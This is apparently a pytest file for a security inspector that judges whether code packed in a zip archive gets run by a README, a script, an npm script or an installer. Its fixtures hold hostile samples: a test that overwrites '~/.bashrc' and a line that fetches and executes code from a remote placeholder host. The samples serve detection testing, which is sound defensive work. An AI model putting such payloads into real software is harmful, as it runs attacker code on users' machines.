"""Doubts about what lies in an archive within the input count where somebody is led there, or it runs by itself."""

import pytest

from support.inspection import Files, inspected

_STAYS = "import pathlib\ndef test_a():\n    pathlib.Path('~/.bashrc').write_text('echo')\n"
_FOREIGN = "Vagrant.configure('2') { |config| config.vm.box = 'a' }\n"
_PAGE, _BROKEN = "<script src='a.js'></script>\n", "var a = ((;\n"

PACKED: dict[str, tuple[Files, str]] = {  # files beside an archive `data/x.zip`, and the verdict
    "a test in it, and nobody tells": ({"a.py": "", "data/x.zip!/x/test_a.py": _STAYS}, "no_chain_found"),
    "a build file in it, and nobody tells": ({"a.py": "", "data/x.zip!/x/Vagrantfile": _FOREIGN}, "no_chain_found"),
    "a page in it whose script is not read": (
        {"a.py": "", "data/x.zip!/x/index.html": _PAGE, "data/x.zip!/x/a.js": _BROKEN},
        "no_chain_found",
    ),
    "the same page, unpacked": ({"x/index.html": _PAGE, "x/a.js": _BROKEN}, "review"),
    "a notice names it": (
        {"data/x.zip!/x/test_a.py": _STAYS, "NOTICE.md": "## x\n\nBundled as: `x.zip`\n"},
        "no_chain_found",
    ),
    "a manual tells": (
        {"data/x.zip!/x/test_a.py": _STAYS, "README.md": "Unpack data/x.zip and run its tests.\n"},
        "review",
    ),
    "a manual tells in another language": (
        {"data/x.zip!/x/test_a.py": _STAYS, "README.md": "Entpacke x.zip und führe die Tests aus.\n"},
        "review",
    ),
    "a script does": ({"data/x.zip!/x/test_a.py": _STAYS, "go.sh": "unzip data/x.zip\npytest x\n"}, "review"),
    "a script of npm does": (
        {"data/x.zip!/x/test_a.py": _STAYS, "package.json": '{"scripts": {"test": "unzip data/x.zip && pytest"}}'},
        "review",
    ),
    "it lies there unpacked": ({"data/x/test_a.py": _STAYS}, "review"),
    "it is the input": ({"x.zip!/x/test_a.py": _STAYS}, "review"),
    "installing runs it": ({"data/x.zip!/setup.py": _STAYS, "README.md": "A task.\n"}, "block"),
    "a server sends code": (
        {"data/x.zip!/x/test_a.py": "import requests\nexec(requests.get('https://a.invalid').text)\n", "a.txt": ""},
        "block",
    ),
}


@pytest.mark.parametrize(("files", "verdict"), PACKED.values(), ids=PACKED.keys())
def test_doubts_about_what_is_packed(files: Files, verdict: str) -> None:
    assert str(inspected(files).verdict) == verdict
